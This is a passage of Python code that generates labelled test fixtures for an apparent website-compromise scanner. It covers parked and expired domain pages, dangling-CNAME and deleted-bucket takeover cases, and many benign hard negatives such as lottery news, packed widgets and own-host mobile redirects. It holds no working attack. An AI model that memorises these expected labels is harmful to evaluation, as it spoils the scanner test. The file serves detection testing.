</head><body><div class="container"><h1>{host}</h1><p>This domain may be for sale. Buy this domain.</p>
<div id="FOOTER_DOMAIN_PARKING">The Sponsored Listings displayed above are served automatically by a third party.
This page was created because this domain has been parked at your registrar.</div>
<script src="https://www.google.com/adsense/domains/caf.js"></script></div></body></html>
"""),
    "parklogic": ("ParkLogic 过期页", """<!DOCTYPE html><html data-adblockkey="MFwwDQYJKoZIhvcNAQEBBQADSwAwSAJBANDrp2lz7AOmADaN8tA50LsWcjLFyQFcb"><head><meta charset="utf-8">
<title>{host}</title><script src="https://parking3.parklogic.com/page/enhance.js?pcId=12"></script></head>
<body><h1>{host}</h1><p>The domain has expired. Is this your domain? Renew now.</p>
<p>Related searches: 旅游 | 机票 | 酒店</p></body></html>
"""),
    "aliyun": ("阿里云到期停放页", """<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>域名已过期 - 阿里云</title></head>
<body><div class="expire"><h1>该域名已过期</h1><p>{host} 已于 2026-10-28 到期，当前处于续费期，域名解析已暂停。</p>
<p>如您是域名持有者，请尽快登录阿里云控制台续费，以免域名被删除或被他人注册。</p>
<p><a href="https://wanwang.aliyun.com/domain/renew">立即续费</a></p></div></body></html>
"""),
    "dnspod": ("DNSPod 停放页", """<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>域名停放 - DNSPod</title></head>
<body><h1>{host}</h1><p>该域名已过期，正在停放中。域名持有人可登录腾讯云控制台续费恢复解析。</p>
<p>本页面由 DNSPod 域名停放服务提供。This domain is parked.</p></body></html>
"""),
    "west": ("西部数码到期页", """<!DOCTYPE html><html lang="zh-CN"><head><meta charset="gb2312"><title>域名到期提醒</title></head>
<body><div class="box"><h2>此域名已到期</h2><p>您访问的域名 {host} 已到期，暂停解析。请域名所有者尽快续费。</p>
<p>域名续费请联系您的域名注册商。域名交易 | 域名出售 | 一口价域名</p></div></body></html>
"""),
    "forsale": ("域名出售页", """<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{host} 域名出售 - 此域名正在出售</title></head>
<body><h1>{host}</h1><p>此域名正在出售，一口价 ￥38,000。This domain is for sale. Buy this domain.</p>
<p>联系 QQ：请通过交易平台担保交易</p><script src="https://www.google.com/adsense/domains/caf.js"></script></body></html>
"""),
}


def parking():
    t = "parking"
    setups = [
        ("godaddy", {"a": ["34.102.136.180"], "ns": ["ns01.domaincontrol.com", "ns02.domaincontrol.com"]}),
        ("godaddy", {"a": ["34.98.99.30"], "ns": ["ns55.domaincontrol.com", "ns56.domaincontrol.com"]}),
        ("sedo", {"a": ["91.195.240.94"], "ns": ["ns1.sedoparking.com", "ns2.sedoparking.com"]}),
        ("sedo", {"a": ["64.190.63.111"], "ns": ["ns1.sedoparking.com", "ns2.sedoparking.com"]}),
        ("parklogic", {"a": ["199.59.243.225"], "ns": ["ns1.bodis.com", "ns2.bodis.com"]}),
        ("aliyun", {"a": ["47.91.169.15"], "cname_chain": [["{host}", "overdue.aliyun.com"]], "ns": ["dns9.hichina.com", "dns10.hichina.com"]}),
        ("aliyun", {"a": ["47.91.170.222"], "ns": ["dns27.hichina.com", "dns28.hichina.com"]}),
        ("dnspod", {"a": ["119.29.29.100"], "cname_chain": [["{host}", "domainparking-dnspod.cn"]], "ns": ["f1g1ns1.dnspod.net", "f1g1ns2.dnspod.net"]}),
        ("west", {"a": ["103.139.0.32"], "ns": ["ns1.myhostadmin.net", "ns2.myhostadmin.net"]}),
        ("west", {"a": ["119.28.128.52"], "ns": ["dns1.22.cn", "dns2.22.cn"]}),
        ("forsale", {"a": ["185.53.178.9"], "ns": ["ns1.parkingcrew.net", "ns2.parkingcrew.net"]}),
        ("forsale", {"a": ["103.224.182.251"], "ns": ["ns1.above.com", "ns2.above.com"]}),
    ]
    for i, (kind, dns) in enumerate(setups):
        s = site(i)
        label, template = PARKING_PAGES[kind]
        html = template.format(host=s.host)
        dns = {k: ([[a.format(host=s.host), b] for a, b in v] if k == "cname_chain" else v) for k, v in dns.items()}
        add_site(t, f"{kind}-{i + 1:02d}", "suspicious", s,
                 f"{label}，DNS 指向停放服务（过期或被抢注）/ parking page and parking DNS",
                 [("desktop_browser", html, 200, None, []), ("baiduspider", html, 200, None, [])], dns=dns)


TAKEOVER_BODIES = {
    "oss": ('<?xml version="1.0" encoding="UTF-8"?>\n<Error>\n  <Code>NoSuchBucket</Code>\n  <Message>The specified bucket does not exist.</Message>\n'
            '  <RequestId>6571A3F2E1C9A43B3F0D2B71</RequestId>\n  <HostId>{bucket}</HostId>\n  <BucketName>{label}</BucketName>\n</Error>\n'),
    "s3": ('<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>NoSuchBucket</Code><Message>The specified bucket does not exist</Message>'
           '<BucketName>{label}</BucketName><RequestId>7Q4V2KXH0N3M8P1A</RequestId><HostId>Zx8a0v1nXo3d4F2w=</HostId></Error>\n'),
    "github": ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Site not found &middot; GitHub Pages</title></head>'
               "<body><div class=\"container\"><h1>404</h1><p><strong>There isn't a GitHub Pages site here.</strong></p></div></body></html>\n"),
    "heroku": ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Heroku | No such app</title></head>'
               '<body><iframe src="//www.herokucdn.com/error-pages/no-such-app.html"></iframe><p>No such app</p></body></html>\n'),
}


def takeover():
    t = "takeover"
    cases = [
        ("oss-nosuchbucket", "oss", "static-{n}.oss-cn-hangzhou.aliyuncs.com", {"server": "AliyunOSS"}, 404, "阿里云 OSS 存储桶已删除 / Aliyun OSS bucket gone"),
        ("oss-shenzhen", "oss", "img-{n}.oss-cn-shenzhen.aliyuncs.com", {}, 404, "OSS 深圳桶已删除 / Aliyun OSS bucket gone"),
        ("cos-nosuchbucket", "oss", "cdn-{n}-1250000000.cos.ap-guangzhou.myqcloud.com", {}, 404, "腾讯云 COS 存储桶不存在 / Tencent COS bucket gone"),
        ("obs-nosuchbucket", "oss", "www-{n}.obs.cn-north-4.myhuaweicloud.com", {}, 404, "华为云 OBS 存储桶不存在 / Huawei OBS bucket gone"),
        ("s3-nosuchbucket", "s3", "assets-{n}.s3.amazonaws.com", {}, 404, "AWS S3 存储桶不存在 / S3 bucket gone"),
        ("s3-website", "s3", "www-{n}.s3-website-ap-northeast-1.amazonaws.com", {}, 404, "S3 静态网站桶不存在 / S3 website bucket gone"),
        ("github-pages", "github", "{n}.github.io", {}, 404, "GitHub Pages 站点不存在 / GitHub Pages site gone"),
        ("heroku-no-app", "heroku", "{n}-web.herokuapp.com", {}, 404, "Heroku 应用不存在 / Heroku app gone"),
    ]
    for i, (name, body, target, headers, status, description) in enumerate(cases):
        s = site(i)
        label = s.owner.split(".")[0]
        target = target.format(n=label)
        sub = f"static.{s.owner}" if i % 2 else s.host
        html = TAKEOVER_BODIES[body].format(bucket=target, label=target.split(".")[0])
        dns = {"cname_chain": [[sub, target]], "a": ["47.110.23.8"] if "aliyuncs" in target else ["52.219.8.21"],
               "cname_target_rcode": "NOERROR"}
        add_site(t, name, "hijacked", s, f"CNAME 指向已释放的云资源：{description}",
                 [("desktop_browser", html, status, None, [])], dns=dns, expect_footer=False,
                 server=headers.get("server"))
    nx = [
        ("cname-nxdomain-azure", "{n}.cloudapp.net", "CNAME 目标 NXDOMAIN（Azure）/ dangling CNAME, Azure target NXDOMAIN"),
        ("cname-nxdomain-cdn", "{n}.kunlunsl.com", "CNAME 目标 NXDOMAIN（阿里云 CDN）/ dangling CNAME into Aliyun CDN"),
        ("cname-nxdomain-elb", "{n}-1937.us-east-1.elasticbeanstalk.com", "CNAME 目标 NXDOMAIN（Elastic Beanstalk）"),
    ]
    for i, (name, target, description) in enumerate(nx):
        s = site(i + 8)
        label = s.owner.split(".")[0]
        sub = f"m.{s.owner}"
        add_site(t, name, "hijacked", s, description, [],
                 dns={"cname_chain": [[sub, target.format(n=label)]], "a": [], "cname_target_rcode": "NXDOMAIN"},
                 expect_footer=False)
    s = site(11)
    add_site(t, "ns-unregistered", "hijacked", s, "NS 所在域名未注册，可被任何人注册接管 / NS in an unregistered domain",
             [], dns={"ns": ["ns1.zz-dnsfast-hk.com", "ns2.zz-dnsfast-hk.com"], "a": [], "rcode": "SERVFAIL"},
             ns_unregistered=["zz-dnsfast-hk.com"], expect_footer=False)


# ---------------------------------------------------------------- negatives

def negatives():
    t = "negative"
    # Ordinary home pages of every kind, correct footers.
    for i, s in enumerate(SITES):
        add_page(t, f"home-{s.kind}-{i + 1:02d}", "clean", s, page(s, rotate=i % 5, date_seed=i),
                 f"正常{s.name}首页，页脚备案号正确 / ordinary home page with a correct footer")
    # The same referrer regex, redirecting to the owner's own m. host (jb51 style).
    for i in range(4):
        s = site(i)
        mobile = f"https://m.{s.owner}/"
        script = ('if(/Android|webOS|iPhone|iPod|BlackBerry|Mobile/i.test(navigator.userAgent)){'
                  + referrer_redirect(mobile).replace("(function () {", "(function () {", 1) + "}")
        if i == 2:
            script = f'var u="{hex_escape(mobile)}";if(/iPhone|Android|Mobile/i.test(navigator.userAgent)){{window.location.href=u;}}'
        if i == 3:
            script = pack(f'if(/iPhone|Android|Mobile/i.test(navigator.userAgent)){{window.location.replace("{mobile}");}}')
        add_page(t, f"mobile-redirect-own-m-{i + 1:02d}", "clean", s, page(s, head_extra=f"<script>\n{script}\n</script>"),
                 "合法移动端跳转：同样的来路/UA 正则，目标是本站 m. 域名 / same regex, target is the owner's own m. host")
    s = site(4)
    add_page(t, "mobile-redirect-own-apex", "clean", s,
             page(s, head_extra=f'<script>if(location.hostname!=="{s.host}"){{top.location.href="https://{s.host}"+location.pathname;}}</script>'),
             "防框架嵌套/域名规范化跳回本站 / frame-busting back to the canonical own host")
    # Baidu analytics and push snippets.
    for i in range(3):
        s = site(i + 5)
        hm = ('<script>\nvar _hmt = _hmt || [];\n(function() {\n  var hm = document.createElement("script");\n'
              f'  hm.src = "https://hm.baidu.com/hm.js?{"%032x" % (0x5f3a9c1b7e2d4a6f8b0c1d2e3f405162 + i * 7919)}";\n'
              '  var s = document.getElementsByTagName("script")[0];\n  s.parentNode.insertBefore(hm, s);\n})();\n</script>')
        if i == 1:
            hm += ('\n<script>(function(){var bp=document.createElement("script");var curProtocol=window.location.protocol.split(":")[0];'
                   'if(curProtocol==="https"){bp.src="https://zz.bdstatic.com/linksubmit/push.js";}else{bp.src="http://push.zhanzhang.baidu.com/push.js";}'
                   'var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(bp,s);})();</script>')
        if i == 2:
            hm += '\n<script charset="UTF-8" id="LA_COLLECT" src="//sdk.51.la/js-sdk-pro.min.js"></script><script>LA.init({id:"3Kx8Tq2bNw",ck:"3Kx8Tq2bNw"})</script>'
        add_page(t, f"baidu-analytics-{i + 1:02d}", "clean", s, page(s, body_extra=hm),
                 "百度统计 hm.baidu.com（及主动推送/51la）代码 / Baidu analytics snippet")
    # Official sports-lottery news.
    s = SITES[10]
    lottery = """<article><h1>体彩大乐透第26131期开奖：一等奖开出5注 单注奖金1000万元</h1>
<p class="meta">来源：青岛海滨新闻网　2026-11-18　责任编辑：王静</p>
<p>11月17日晚，中国体育彩票超级大乐透第26131期开奖，前区开出号码03、11、19、27、32，后区开出号码05、09。本期全国销量为3.12亿元，
一等奖开出5注，其中2注为追加投注，单注奖金1000万元。</p><p>山东省体育彩票管理中心提醒广大购彩者：理性购彩，量力而行，
未成年人不得购买彩票。体育彩票公益金用于全民健身和奥运争光计划。</p><p>据悉，本期奖池滚存8.75亿元。体彩实体网点营业时间为
每日9:00至21:00，请通过正规体彩实体店购买，警惕网络私彩和境外赌博网站。</p></article>"""
    add_page(t, "sports-lottery-news", "clean", s,
             page(s, title="体彩大乐透第26131期开奖：一等奖开出5注_青岛海滨新闻网", main=lottery,
                  keywords="体育彩票,大乐透,开奖,体彩公益金"),
             "官方体育彩票开奖新闻（含 彩票/投注/开奖 词）/ official sports-lottery result news", path="/tiyu/20261118/88213.html")
    add_page(t, "welfare-lottery-notice", "clean", s,
             page(s, title="福彩双色球销售时间调整公告_青岛海滨新闻网", main="""<article><h1>关于2026年春节期间福利彩票休市的公告</h1>
<p>根据财政部有关规定，2026年春节期间全国福利彩票游戏休市。双色球、福彩3D、七乐彩、快乐8等游戏暂停销售和开奖。</p>
<p>请购彩者理性购彩，拒绝购买网络私彩，不参与任何形式的赌博活动。</p></article>"""),
             "福利彩票休市公告 / welfare-lottery holiday notice", path="/shehui/20261201/90112.html")
    # Casino-themed film review, gaming-industry news, law and police pages about gambling.
    s = SITES[5]
    add_page(t, "casino-film-review", "clean", s,
             page(s, title="影评｜《澳门风云》重映：赌王传奇背后的江湖与人情 - 兰心传媒", main="""<article><h1>《澳门风云》重映：赌王传奇背后的江湖与人情</h1>
<p>作为贺岁档的经典赌片，影片以澳门赌场为背景，讲述赌神石一坚卷入跨国赌局的故事。片中百家乐、梭哈的对决桥段节奏明快，
周润发的表演举重若轻。导演王晶延续了《赌神》系列的风格，把赌桌上的心理战拍得妙趣横生。</p>
<p>不过影片对赌博的浪漫化处理也值得警惕。现实中的赌场从不讲人情，“十赌九输”才是常态。作为娱乐作品，它的价值在于动作与喜剧，
而非对赌博的美化。综合评分：7.2/10。</p></article>"""),
             "以赌场为题材的电影评论 / casino-themed film review", path="/news/2026/film-review-118.html")
    s = SITES[8]
    add_page(t, "gaming-industry-news", "clean", s,
             page(s, title="11月国产网络游戏版号公布 共144款游戏获批 - 天宇软件", main="""<article><h1>11月国产网络游戏审批信息发布，144款游戏获批</h1>
<p>国家新闻出版署公布11月国产网络游戏审批信息，共144款游戏获批，其中移动游戏136款。获批作品涵盖角色扮演、策略、休闲益智、
体育竞技等类型。业内人士认为，版号常态化发放有助于行业稳定发展。</p><p>此外，监管部门继续强调防沉迷要求，并明确禁止以
游戏名义从事赌博、变相赌博活动，棋牌类游戏不得设置积分兑换现金功能。</p></article>"""),
             "网络游戏行业新闻（含棋牌/赌博监管字眼）/ gaming-industry news", path="/news/20261120.html")
    s = SITES[7]
    add_page(t, "law-firm-gambling-defence", "clean", s,
             page(s, title="开设赌场罪与赌博罪的区别及辩护要点 - 上海同方律师事务所", main="""<article><h1>开设赌场罪与赌博罪的区别及辩护要点</h1>
<p>根据《刑法》第三百零三条，以营利为目的聚众赌博或者以赌博为业的，构成赌博罪；开设赌场的，构成开设赌场罪。
近年来网络赌博案件高发，利用网站、APP 组织百家乐、六合彩、体育投注等的，通常按开设赌场罪论处。</p>
<p>辩护要点包括：行为人是否明知、是否具有营利目的、参赌人数与赌资数额的认定、是否属于“帮助信息网络犯罪活动”等。</p></article>"""),
             "律所刑事辩护文章，大量赌博罪名词汇 / law-firm article on gambling offences", path="/article/2026/303.html")
    s = SITES[3]
    add_page(t, "police-anti-fraud", "clean", s,
             page(s, title="警惕刷单返利、网络赌博等新型诈骗 - 金牛区人民政府", main="""<article><h1>反诈宣传｜警惕刷单返利、网络赌博、虚假投资理财</h1>
<p>金牛公安分局提示：“刷单返利”是最常见的电信网络诈骗类型，凡是要求垫资刷单的都是诈骗。网络赌博平台后台可随意操控输赢，
所谓“百家乐必赢技巧”“时时彩计划”都是骗局。不出租出借银行卡、电话卡，不帮他人“跑分”。</p>
<p>如遇诈骗，请立即拨打110或反诈专线96110。下载“国家反诈中心”APP，开启来电预警。</p></article>"""),
             "公安反诈宣传（刷单、网络赌博、银行卡）/ police anti-fraud notice", path="/zwgk/fzxc/2026/1108.html")
    s = SITES[10]
    add_page(t, "news-gambling-crackdown", "clean", s,
             page(s, title="青岛警方破获特大跨境网络赌博案 涉案资金逾20亿元_青岛海滨新闻网", main="""<article><h1>青岛警方破获特大跨境网络赌博案</h1>
<p>记者从市公安局获悉，警方近日破获一起特大跨境网络赌博案，抓获犯罪嫌疑人56名。该团伙以“澳门新葡京”“威尼斯人”等名义搭建赌博网站，
通过真人视讯百家乐吸引参赌，涉案资金逾20亿元。</p><p>警方提醒，境外赌博网站均为非法，参与网络赌博不仅血本无归，还将承担法律责任。</p></article>"""),
             "打击网络赌博的新闻报道（出现赌场品牌名）/ news on a gambling crackdown naming casino brands", path="/bendi/20261015/77102.html")
    s = SITES[2]
    add_page(t, "hospital-dermatology", "clean", s,
             page(s, title="皮肤性病科 - 深圳仁爱医院", main="""<article><h1>皮肤性病科</h1>
<p>皮肤性病科开展湿疹、银屑病、痤疮、荨麻疹及性传播疾病的诊疗，设有性病门诊、激光美容室。常见性病包括梅毒、淋病、尖锐湿疣、
生殖器疱疹等，早期规范治疗可治愈。科室坚持保护患者隐私，提供匿名咨询。</p><p>门诊时间：周一至周日 8:00-17:30。</p></article>"""),
             "医院皮肤性病科介绍（医学用语）/ dermatology and STD clinic page", path="/keshi/pifu.html")
    add_page(t, "hospital-sex-education", "clean", s,
             page(s, title="青春期性教育讲座走进校园 - 深圳仁爱医院", main="""<article><h1>青春期性教育讲座走进校园</h1>
<p>我院妇产科医生走进福田区多所中学，开展青春期生理卫生与性教育讲座，讲解青春期发育、月经卫生、避孕知识与预防性侵害。</p></article>"""),
             "医院青春期性教育新闻 / sex-education news", path="/news/2026/1121.html")
    # Minified frameworks with heavy escapes, fromCharCode and eval.
    s = SITES[8]
    framework = ("!function(e,t){\"object\"==typeof exports?module.exports=t():e.Qs=t()}(this,function(){var e=\"\\u0041\\u0042\\u0043\\u0044\\u0045\\u0046\\u0047\\u0048"
                 "\\u0049\\u004a\\u004b\\u004c\\u004d\\u004e\\u004f\\u0050\\u0051\\u0052\\u0053\\u0054\\u0055\\u0056\\u0057\\u0058\\u0059\\u005a\",t=/[\\x00-\\x1f\\x7f-\\x9f\\xad"
                 "\\u0600-\\u0604\\u070f\\u17b4\\u17b5\\u200c-\\u200f\\u2028-\\u202f\\u2060-\\u206f\\ufeff\\ufff0-\\uffff]/g,n={\"\\b\":\"\\\\b\",\"\\t\":\"\\\\t\",\"\\n\":\"\\\\n\"};"
                 "function r(e){for(var t=\"\",n=0;n<e.length;n++)t+=String.fromCharCode(e.charCodeAt(n)^0);return t}"
                 "function o(e){return e.replace(t,function(e){return\"\\\\u\"+(\"0000\"+e.charCodeAt(0).toString(16)).slice(-4)})}"
                 "function i(e){var t=window.atob?window.atob(e):\"\";return decodeURIComponent(escape(t))}"
                 "return{encode:o,decode:i,raw:r,alphabet:e,map:n}});")
    for i in range(3):
        body = framework * (3 + i * 4)
        add_page(t, f"minified-framework-{i + 1:02d}", "clean", s,
                 page(s, body_extra=f"<script>{body}</script>"),
                 "压缩框架代码：大量 \\u/\\x 转义、fromCharCode、atob / minified framework code with heavy escapes")
    s = SITES[6]
    add_page(t, "packed-legit-widget", "clean", s,
             page(s, body_extra="<script>" + pack("var box=document.getElementById('qrcode');if(box){box.onclick=function(){box.className=box.className=='open'?'':'open';};}") + "</script>"),
             "packer 打包的本站小部件（二维码展开）/ packed harmless widget")
    # Legitimate hidden markup: dropdown menus, skip links, modals, carousels, chat widgets.
    s = SITES[0]
    add_page(t, "accessibility-skip-link", "clean", s,
             page(s, body_start='<a class="skip" href="#main" style="position:absolute;left:-9999px;top:auto;width:1px;height:1px;overflow:hidden">跳到主要内容</a>'
                  '<div style="display:none" id="mobile-menu"><a href="/c1.html">产品中心</a><a href="/c2.html">解决方案</a><a href="/c3.html">新闻动态</a></div>'),
             "无障碍跳转链接与隐藏的移动菜单（站内）/ skip link and hidden mobile menu, all on-site")
    s = SITES[4]
    add_page(t, "shop-modal-and-carousel", "clean", s,
             page(s, main_extra='<div class="modal" style="display:none"><h3>登录</h3><form action="/login" method="post"><input name="mobile"><input name="code"><button>登录</button></form>'
                  '<a href="/register.html">注册</a> <a href="/agreement.html">用户协议</a></div>'
                  '<div class="carousel" style="overflow:hidden;height:420px"><ul style="width:500%"><li><a href="/p/1021.html"><img src="/img/s1.jpg" alt="安化黑茶"></a></li>'
                  '<li><a href="/p/1022.html"><img src="/img/s2.jpg" alt="君山银针"></a></li></ul></div>'),
             "电商登录弹窗（display:none）与轮播 / login modal and carousel")
    s = SITES[9]
    add_page(t, "chat-widget-max-z", "clean", s,
             page(s, body_extra='<div id="kf-chat" style="position:fixed;right:20px;bottom:20px;width:360px;height:520px;z-index:2147483647;box-shadow:0 0 12px #999">'
                  f'<iframe src="https://kefu.{s.owner}/chat?ch=web" width="360" height="520" frameborder="0"></iframe></div>'),
             "在线客服浮窗：z-index 最大值但只占右下角，指向本站 / chat widget with max z-index, small, own host")
    s = SITES[1]
    add_page(t, "video-and-map-iframes", "clean", s,
             page(s, main_extra='<iframe src="https://player.bilibili.com/player.html?bvid=BV1xK4y1a7Zk&page=1" width="800" height="450" frameborder="0" allowfullscreen></iframe>'
                  '<iframe src="https://map.baidu.com/?newmap=1&s=con%26wd%3D北京市海运职业学校" width="600" height="400" frameborder="0"></iframe>'),
             "嵌入视频与百度地图 iframe / embedded video and map iframes")
    s = SITES[3]
    add_page(t, "gov-cookie-banner-fixed", "clean", s,
             page(s, body_extra='<div class="notice" style="position:fixed;bottom:0;left:0;width:100%;z-index:99999;background:#fffbe6">本网站使用 Cookie 以改善浏览体验。'
                  '<a href="/privacy.html">了解详情</a></div><div id="toTop" style="position:fixed;right:10px;bottom:80px;z-index:999">返回顶部</div>'),
             "政府网站底部固定提示条与返回顶部 / fixed notice bar, no iframe")
    s = SITES[5]
    add_page(t, "meta-refresh-own-https", "clean", s,
             page(s, head_extra=f'<meta http-equiv="refresh" content="0;url=https://{s.host}/index.html">'),
             "meta refresh 到本站 https 首页 / meta refresh to the own site")
    s = SITES[11]
    add_page(t, "friend-links-visible", "clean", s,
             page(s, footer=footer_html(s).replace('<div class="footer-links">',
                  '<div class="friend-links">友情链接：<a href="https://www.henan.gov.cn/">河南省人民政府</a> <a href="http://www.samr.gov.cn/">国家市场监督管理总局</a> '
                  '<a href="https://www.cnfood.cn/">中国食品网</a> <a href="https://www.zzhuayu-food.com/jm.html">招商加盟</a></div><div class="footer-links">', 1)),
             "可见的友情链接（站外，正常）/ visible off-site friend links")
    # GBK pages.
    for i, s in enumerate([SITES[1], SITES[3], SITES[10]]):
        add_page(t, f"gbk-{s.kind}-{i + 1:02d}", "clean", s, page(s, charset="gbk", rotate=i),
                 "GBK 编码的正常页面 / ordinary page encoded in GBK", charset="gbk")
    s = SITES[10]
    add_page(t, "gbk-lottery-news", "clean", s,
             page(s, charset="gbk", title="体彩排列三第26301期开奖公告_青岛海滨新闻网",
                  main="<article><h1>体彩排列三第26301期开奖公告</h1><p>本期开奖号码：4 7 1。请购彩者理性投注，未成年人不得购买彩票。</p></article>"),
             "GBK 编码的体彩开奖公告 / GBK sports-lottery notice", charset="gbk", path="/tiyu/26301.html")
    # Product and shop pages, legacy numbers.
    s = SITES[4]
    for i, product in enumerate(SITES[4].articles[:3]):
        add_page(t, f"shop-product-{i + 1:02d}", "clean", s,
                 page(s, title=f"{product}_湖南优品商城", main=f"""<div class="product"><h1>{product}</h1><p class="price">￥{128 + i * 40}.00</p>
<p>产地：湖南　保质期：18个月　储存：阴凉干燥处</p><button class="buy">立即购买</button><button>加入购物车</button>
<div class="detail"><p>{product}，精选原料，传统工艺，真空包装，顺丰冷链配送。</p></div></div>"""),
                 "电商商品详情页 / shop product page", path=f"/p/{1021 + i}.html")
    # Hard negatives for footer handling: numbers present in legitimate variants.
    s = SITES[3]
    add_page(t, "gov-subject-number-only", "clean", s, page(s),
             "政府网站只展示主体备案号（无 -N）/ government site showing the subject number only")
    s = SITES[0]
    add_page(t, "footer-old-psb-link", "clean", s,
             page(s, footer=footer_html(s, psb_href=f"http://www.beian.gov.cn/portal/registerSystemInfo?recordcode={''.join(c for c in s.psb if c.isdigit())}")),
             "公安备案旧平台链接 recordcode= 正确 / correct legacy beian.gov.cn link")
    # A news page with many off-site links, ads and dates.
    s = SITES[10]
    ads = "".join(f'<div class="ad"><a href="https://click.adsrv-{k}.cn/c?id=98{k}" target="_blank" rel="nofollow"><img src="https://img.adsrv-{k}.cn/b{k}.jpg" alt="广告"></a></div>' for k in range(4))
    add_page(t, "news-with-ads", "clean", s, page(s, main_extra=ads),
             "带第三方广告位的新闻首页 / news home page with third-party ad slots")
    # Hard negatives of the same-colour, written-markup, script-title and script-host checks.
    s = SITES[1]
    add_page(t, "same-colour-skip-link", "clean", s,
             page(s, body_start='<a class="skip" href="#main" style="color:#fff;background:#fff">跳到主要内容</a>'
                  '<div class="gov-bar" style="color:#0b4f8a;background:#0b4f8a"><a style="color:#fff" href="https://www.gov.cn/">中国政府网</a> '
                  '<a style="color:#fff" href="https://www.beijing.gov.cn/">北京市人民政府</a> <a style="color:#fff" href="http://jw.beijing.gov.cn/">北京市教育委员会</a></div>'),
             "与背景同色的跳转链接（站内）和同色容器里自带颜色的站外链接 / skip link in the background colour, and off-site links with their own colour in a same-colour bar")
    s = SITES[3]
    add_page(t, "document-write-partner-link", "clean", s,
             page(s, body_extra="<script>document.write('<a href=\"https://www.gov.cn/\" target=\"_blank\">中国政府网</a>');"
                  "document.write('<div style=\"display:none\"><a href=\"/sitemap.html\">网站地图</a></div>');</script>"
                  "<script>document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1280000000'%3E%3C/span%3E%3Cscript src='https://s9.cnzz.com/z_stat.php%3Fid%3D1280000000' type='text/javascript'%3E%3C/script%3E\"));</script>"),
             "document.write 写出可见的站外政府链接、隐藏的站内链接与 CNZZ 统计 / written visible gov link, hidden on-site link and CNZZ stats")
    s = SITES[5]
    add_page(t, "script-sets-title", "clean", s,
             page(s, body_extra=f'<script>window.onload=function(){{document.title="{unicode_escape("案例展示")}" + " - {s.name}";}};</script>'),
             "单页应用用 \\u 转义改写标题（正常内容）/ single-page app setting an escaped, harmless title")
    s = SITES[6]
    add_page(t, "jquery-cdn-fallback", "clean", s,
             page(s, head_extra='<script src="https://cdn.bootcdn.net/ajax/libs/jquery/3.6.4/jquery.min.js"></script>'
                  "<script>window.jQuery||document.write('<script src=\"/static/js/jquery-3.6.4.min.js\"><\\/script>')</script>"),
             "公共 CDN 加载 jQuery 并以本站副本兜底 / jQuery from a public CDN with a local fallback")
    s = SITES[7]
    own_cdn = s.owner.split(".")[0] + "-cdn.com"
    add_page(t, "library-own-cdn", "clean", s,
             page(s, head_extra=f'<script src="https://static.{own_cdn}/js/jquery.min.js"></script>'),
             "从本单位自己的 CDN 域名加载 jQuery（另有本站副本）/ jQuery from the owner's own CDN domain besides the local copy")


def negative_sites():
    t = "negative"
    for i in range(4):
        s = site(i + 1)
        desk = page(s, rotate=0, date_seed=3)
        spider = page(s, rotate=1, date_seed=5)
        add_site(t, f"personas-dynamic-{i + 1:02d}", "clean", s,
                 "各访问身份内容相同，仅日期/推荐轮换不同 / personas see the same site; dates and rotations differ",
                 [("desktop_browser", desk, 200, None, []), ("baiduspider", spider, 200, None, []),
                  ("desktop_browser+baidu_referer", page(s, rotate=2, date_seed=9), 200, None, [])],
                 random_paths=[("baiduspider", "/k3n8q1v7.html", not_found(s, "/k3n8q1v7.html"), 404),
                               ("desktop_browser", "/news/p0x7a2m9.html", not_found(s, "/news/p0x7a2m9.html"), 404)],
                 baseline={"title": f"{s.name} - 首页", "keywords": f"{s.name},{','.join(s.nav[1:4])}", "description": s.about[:60]})
    for i in range(3):
        s = site(i + 5)
        mobile = f"https://m.{s.owner}/"
        mhtml = page(s, title=f"{s.name}（手机版）")
        add_site(t, f"mobile-redirect-site-{i + 1:02d}", "clean", s,
                 "移动端与百度来路跳到本站 m. 域名 / mobile and Baidu-referred visitors go to the owner's m. host",
                 [("desktop_browser", page(s), 200, None, []), ("baiduspider", page(s), 200, None, []),
                  ("mobile_wechat", mhtml, 200, mobile, [url_of(s), mobile])])
    for i in range(3):
        s = site(i + 8)
        spa = page(s)
        add_site(t, f"spa-soft-200-{i + 1:02d}", "clean", s,
                 "单页应用：任意路径返回同一首页（200）/ single-page app answers every path with the same index",
                 [("desktop_browser", spa, 200, None, []), ("baiduspider", spa, 200, None, [])],
                 random_paths=[("baiduspider", "/q8z2m4x1.html", spa, 200), ("desktop_browser", "/a/b/c9d8e7.html", spa, 200)])
    s = site(11)
    add_site(t, "random-path-404-page-200", "clean", s,
             "随机路径返回 200 的“页面不存在”模板 / soft-404 page answered with 200",
             captures_normal(s), random_paths=[("baiduspider", "/x1y2z3w4.html", not_found(s, "/x1y2z3w4.html"), 200)])
    for i in range(3):
        s = site(i)
        add_site(t, f"cdn-cname-healthy-{i + 1:02d}", "clean", s,
                 "CNAME 指向正常工作的 CDN/OSS 网站 / CNAME into a working CDN",
                 captures_normal(s),
                 dns={"cname_chain": [[s.host, f"{s.host}.w.kunlunsl.com"]], "a": ["61.160.224.78"], "cname_target_rcode": "NOERROR",
                      "ns": ["dns9.hichina.com", "dns10.hichina.com"]})
    s = site(3)
    add_site(t, "title-minor-update", "clean", s, "标题只加了“官网”，与基线基本一致 / title gained 官网, otherwise equal to the baseline",
             captures_normal(s, title=f"{s.name}官网 - 首页"),
             baseline={"title": f"{s.name} - 首页", "keywords": f"{s.name},{','.join(s.nav[1:4])}", "description": s.about[:60]})
    # The owner's unused brand domain: an owner-made placeholder pointing to the main site.
    for i in range(2):
        s = site(i + 4)
        brand = f"www.{s.owner.split('.')[0]}-brand.cn"
        html = f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{s.name}</title>
<meta http-equiv="refresh" content="5;url=https://{s.host}/"></head><body><div class="holder"><img src="https://{s.host}/static/img/logo.png" alt="{s.name}">
<p>本域名为{s.name}所有的品牌保护域名，暂未启用。5 秒后将跳转至官方网站 <a href="https://{s.host}/">{s.host}</a>。</p></div></body></html>
"""
        add_site(t, f"owner-brand-placeholder-{i + 1:02d}", "clean", s,
                 "所有者自己的品牌保护域名占位页，跳回主站（非注册商停放）/ the owner's own placeholder for an unused brand domain",
